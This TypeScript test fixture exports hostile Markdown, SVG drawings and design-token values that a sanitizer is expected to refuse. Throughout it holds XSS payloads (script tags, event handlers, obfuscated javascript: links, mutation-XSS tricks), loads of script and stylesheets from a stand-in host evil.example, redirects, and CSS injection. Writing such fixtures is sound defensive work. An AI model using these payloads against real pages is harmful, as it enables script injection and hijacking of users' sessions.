/** What sets a mark on the page if it is ever run. */
export const run = 'window.ran=1'

/** Markdown by which an author may try to bring script or style to a page, or to lead readers astray. */
export const hostileMarkdown = `
<script>${run}</script>
<script src="https://evil.example/x.js"></script>
<img src=x onerror="${run}"> <img src="/favicon.svg" onload="${run}">
<svg onload="${run}"><script>${run}</script><a xlink:href="javascript:${run}">s</a></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></style></math>
<iframe srcdoc="<script>parent.ran=1</script>"></iframe> <object data="javascript:${run}"></object>
<details open ontoggle="${run}"><summary>more</summary></details>
<form action="javascript:${run}"><button formaction="javascript:${run}">send</button></form>
<style>body{display:none}</style> <link rel="stylesheet" href="https://evil.example/x.css">
<div style="position:fixed;inset:0;background:red" id="main" name="body">over</div>
<base href="https://evil.example/"> <meta http-equiv="refresh" content="0;url=https://evil.example/">
<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>
<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>

[one](javascript:${run}) [two](JaVaScRiPt:${run}) [three](java&#x09;script:${run}) [four](vbscript:x)
[five](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=) [six][ref] <javascript:${run}>
[seven](https://ok.example/ "x\\" onmouseover=\\"${run}") ![eight](x"onerror="${run}) [nine](//evil.example)
[ten](https://user:pass@evil.example/) <a href="jav
ascript:${run}">eleven</a> <a href=" javascript:${run}">twelve</a> <a href="\u0001javascript:${run}">thirteen</a>

[ref]: javascript:${run}

\`\`\`html"><script>${run}</script>
<script>${run}</script>
\`\`\`
`

/** A text where only plain words belong. */
export const hostileWords = `</title></script><script>${run}</script>"><img src=x onerror=${run}>`

/** Drawings that are refused. */
export const hostileDrawings: readonly string[] = [
  `<svg xmlns="http://www.w3.org/2000/svg"><script>${run}</script></svg>`,
  `<svg onload="${run}"></svg>`,
  `<svg><path d="M0 0" onclick="${run}"/></svg>`,
  `<svg><a href="javascript:${run}"><path d="M0 0"/></a></svg>`,
  `<svg><image href="https://evil.example/x.png"/></svg>`,
  `<svg><use href="data:image/svg+xml,x#y"/></svg>`,
  `<svg><style>body{display:none}</style></svg>`,
  `<svg><foreignObject><body onload="${run}"/></foreignObject></svg>`,
  `<svg><animate attributeName="href" values="javascript:${run}"/></svg>`,
  `<svg><path style="fill:red" d="M0 0"/></svg>`,
  `<svg><path fill="url(https://evil.example/x)" d="M0 0"/></svg>`,
  `<svg><path class="skip-link" d="M0 0"/></svg>`,
  `<svg><path id="main" d="M0 0"/></svg>`,
  `<svg></svg><script>${run}</script><svg></svg>`,
  `<!DOCTYPE svg [<!ENTITY x "y">]><svg></svg>`,
  `<svg><!-- <script> --></svg>`,
]

/** Tokens that are refused: each would end its rule, fetch something, or is no token. */
export const hostileTokens: readonly object[] = [
  { light: { ink: '#000;}body{display:none' } },
  { light: { ink: 'red' } },
  { light: { accent: 'url(https://evil.example/x)' } },
  { both: { font: 'x;background:url(https://evil.example)' } },
  { both: { font: '</style><script>window.ran=1</script>' } },
  { both: { 'round-md': '1px/**/;}*{display:none' } },
  { both: { 'round-md': 'expression(alert(1))' } },
  { both: { 'no-such-token': '1px' } },
  { everywhere: { ink: '#000000' } },
]
